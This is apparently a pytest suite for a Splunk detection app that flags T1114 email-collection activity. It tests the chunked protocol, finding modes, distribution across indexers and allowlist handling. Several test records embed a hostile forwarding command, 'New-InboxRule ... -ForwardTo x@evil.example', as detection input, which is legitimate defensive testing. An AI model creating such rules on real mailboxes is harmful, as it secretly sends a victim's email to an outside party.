"""The command as splunkd runs it: bin/t1114_command.py in a subprocess of the staged app,
speaking SCP v2 (getinfo, execute chunks, finished) on stdin/stdout.

Runs under whichever Python runs the tests; tox runs it on 3.9 and 3.13.
"""

import os
import shutil

import pytest

from app.finding import OUTPUT_FIELDS
from tests.conftest import UNSIGNED_ROWS
from tools.chunked_client import ChunkedCommand, run, script_path
from tests.helpers import add_account_row, rule_event_records


def finding_signature(record):
    return (record["test_id"], record["t1114_status"], str(record["t1114_rule"]), record["t1114_severity"],
            str(record["t1114_reason"]), str(record["t1114_suppressed_by"]))


def test_getinfo_declares_a_distributable_streaming_command(built_app):
    with ChunkedCommand(script_path(built_app)) as command:
        info = command.getinfo()
        assert info["type"] == "streaming"  # 'stateful' would keep it off the indexers
        command.execute([], finished=True)
    assert command.returncode == 0


def test_mode_all_returns_every_event_in_order_across_chunks(built_app):
    records = rule_event_records()
    result = run(script_path(built_app), records, args=["mode=all"], chunk_size=7)
    assert result["exit_code"] == 0, result["stderr"]
    assert [r["test_id"] for r in result["records"]] == [r["test_id"] for r in records]
    for record in result["records"]:
        assert set(OUTPUT_FIELDS) <= set(record), record["test_id"]
        polarity = record["test_id"].split("/")[1]
        rule_id = record["test_id"].split("/")[0]
        rules = record["t1114_rule"] if isinstance(record["t1114_rule"], list) else [record["t1114_rule"]]
        assert (rule_id in rules) == (polarity == "positive"), record["test_id"]


def test_default_mode_returns_only_findings(built_app):
    records = rule_event_records()
    result = run(script_path(built_app), records, chunk_size=10)
    assert result["exit_code"] == 0
    returned = [r["test_id"] for r in result["records"]]
    assert returned and all(r["t1114_status"] == "finding" for r in result["records"])
    positives = [r["test_id"] for r in records if "/positive/" in r["test_id"]]
    assert set(positives) <= set(returned)


def test_multivalue_fields_cross_the_protocol(built_app):
    record = {"sourcetype": "o365:management:activity", "Operation": "New-InboxRule", "Workload": "Exchange",
              "UserId": "a@contoso.com", "Parameters{}.Name": ["Name", "ForwardTo"],
              "Parameters{}.Value": ["r", "x@evil.example;y@evil.example"]}
    result = run(script_path(built_app), [record])
    (out,) = result["records"]
    assert out["t1114_destination"] == ["x@evil.example", "y@evil.example"]
    assert out["Parameters{}.Name"] == ["Name", "ForwardTo"]


def test_findings_do_not_depend_on_how_events_are_split_between_processes(built_app):
    """Three indexers each run their own process over their share of the events."""
    records = rule_event_records()
    whole = run(script_path(built_app), records, args=["mode=all"], chunk_size=50)["records"]
    shares = [records[0::3], records[1::3], records[2::3]]
    split = []
    for share in shares:
        split.extend(run(script_path(built_app), share, args=["mode=all"], chunk_size=4)["records"])
    assert sorted(map(finding_signature, split)) == sorted(map(finding_signature, whole))
    assert any(r["t1114_status"] == "finding" for r in whole)


def test_empty_chunks_and_an_empty_final_chunk(built_app):
    records = rule_event_records()[:3]
    with ChunkedCommand(script_path(built_app), ["mode=all"]) as command:
        command.getinfo()
        _, first = command.execute([])
        _, second = command.execute(records)
        metadata, last = command.execute([], finished=True)
    assert first == [] and len(second) == 3 and last == []
    assert metadata.get("finished") is True
    assert command.returncode == 0


def test_bad_option_value_is_reported_to_the_user(built_app):
    result = run(script_path(built_app), [{"_raw": "x"}], args=["mode=everything"])
    errors = [text for level, text in result["messages"] if level == "ERROR"]
    assert any("mode=everything" in text for text in errors)
    assert result["exit_code"] != 0


def test_broken_lookup_row_gives_one_inspector_warning_and_other_rows_apply(built_app, tmp_path):
    app_copy = str(tmp_path / "t1114_email_collection")
    shutil.copytree(built_app, app_copy)
    with open(os.path.join(app_copy, "lookups", "t1114_allowlist_accounts.csv"), "w") as handle:
        handle.write("account,rules,valid_from,valid_until,reason\n"
                     "ops@contoso.com,,not-a-date,,typo\n"
                     "mallory@contoso.com,,,,approved sync\n")  # an older file without the optional columns
    record = {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "user": "mallory@contoso.com",
              "ScriptBlockText": "New-InboxRule -Name a -ForwardTo x@evil.example"}
    result = run(script_path(app_copy), [dict(record) for _ in range(50)], args=["mode=all"], chunk_size=10)
    warnings = [text for level, text in result["messages"] if level == "WARN" and "t1114_allowlist_accounts.csv" in text
                and UNSIGNED_ROWS not in text]
    assert len(warnings) == 1 and "line 2" in warnings[0] and "valid_from" in warnings[0]
    assert {r["t1114_status"] for r in result["records"]} == {"suppressed"}
    assert "line 3" in result["records"][0]["t1114_suppressed_by"]


def test_allowlist_false_reports_suppressed_findings(built_app, tmp_path):
    app_copy = str(tmp_path / "app")
    shutil.copytree(built_app, app_copy)
    add_account_row(app_copy, {"account": "mallory@contoso.com", "reason": "approved sync"})
    record = {"sourcetype": "XmlWinEventLog", "EventCode": "4104", "user": "mallory@contoso.com",
              "ScriptBlockText": "New-InboxRule -Name a -ForwardTo x@evil.example"}
    assert run(script_path(app_copy), [record])["records"] == []
    (out,) = run(script_path(app_copy), [record], args=["allowlist=false"])["records"]
    assert out["t1114_status"] == "finding"


@pytest.mark.parametrize("field_value", ["\u00e9\u00e8\u4e2d", "x" * 1024 * 1024], ids=["unicode", "one-megabyte"])
def test_unusual_values_pass_through(built_app, field_value):
    record = {"sourcetype": "o365:management:activity", "_raw": field_value, "Operation": "New-InboxRule",
              "Workload": "Exchange"}
    result = run(script_path(built_app), [record], args=["mode=all"])
    assert result["exit_code"] == 0
    assert result["records"][0]["_raw"] == field_value
